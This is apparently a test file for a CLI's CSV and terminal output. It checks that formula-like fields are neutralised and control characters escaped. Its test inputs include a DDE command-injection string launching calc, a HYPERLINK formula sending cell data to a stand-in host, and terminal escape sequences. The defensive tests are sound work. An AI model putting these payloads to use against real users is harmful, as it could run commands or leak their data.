// What `npm run query` writes is event text from anyone holding the public ingest key: CSV fields a
// spreadsheet would run as formulas are neutralised, and control characters never reach a terminal raw.
import { describe, expect, test } from 'bun:test'
import { csvField, formatRows, tableRows } from '../../src/cli/rows-format'
import { terminalJson, terminalText } from '../../src/cli/terminal-text'

describe('CSV fields', () => {
  test('text a spreadsheet reads as a formula starts with a single quote (OWASP)', () => {
    expect(csvField('=1+1')).toBe("'=1+1")
    expect(csvField('+cmd')).toBe("'+cmd")
    expect(csvField('-2+3+cmd|\' /C calc\'!A0')).toBe("'-2+3+cmd|' /C calc'!A0")
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)")
    expect(csvField('\t=1')).toBe("'\t=1")
    expect(csvField('\r=1')).toBe(`"'\r=1"`)
    expect(csvField('=HYPERLINK("http://x/?a="&A1,"y")')).toBe(`"'=HYPERLINK(""http://x/?a=""&A1,""y"")"`)
  })

  test('numbers, and text that is only a number, are written as they are; so is other text', () => {
    expect(csvField(-5)).toBe('-5')
    expect(csvField('-5')).toBe('-5')
    expect(csvField('-1.5e3')).toBe('-1.5e3')
    expect(csvField('+7')).toBe('+7')
    expect(csvField('a=b')).toBe('a=b')
    expect(csvField({ k: '=1' })).toBe('"{""k"":""=1""}"')
    expect(csvField(null)).toBe('')
  })
})

describe('terminal text', () => {
  test('C0, DEL, C1, line separators and bidi controls are shown escaped; other text is kept', () => {
    expect(terminalText('ok\u001b[2J\rhidden\n\tx\u0007')).toBe('ok\\x1b[2J\\rhidden\\n\\tx\\x07')
    expect(terminalText('a\u007fb\u009bc\u202ed\u2066e\u2028')).toBe('a\\x7fb\\x9bc\\u202ed\\u2066e\\u2028')
    expect(terminalText('héllo, 世界 🙂 \\x1b')).toBe('héllo, 世界 🙂 \\x1b')
  })

  test('JSON keeps its meaning: the controls JSON.stringify leaves raw become \\u escapes', () => {
    const value = { m: 'a\u001b\u007f\u009b\u202e' }
    const text = terminalJson(JSON.stringify(value))
    expect(text).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202e]/)
    expect(JSON.parse(text)).toEqual(value)
    expect(formatRows([value], ['m'], 'ndjson')).toBe(text)
    expect(JSON.parse(formatRows([value], ['m'], 'json'))).toEqual([value])
  })

  test('table rows: names and cells escaped, objects as JSON, numbers and nulls as they are', () => {
    expect(tableRows([{ 'a\u001b': 'x\ry', n: 1, z: null, o: { k: '\u001b' } }])).toEqual([{ 'a\\x1b': 'x\\ry', n: 1, z: null, o: '{"k":"\\u001b"}' }])
  })
})
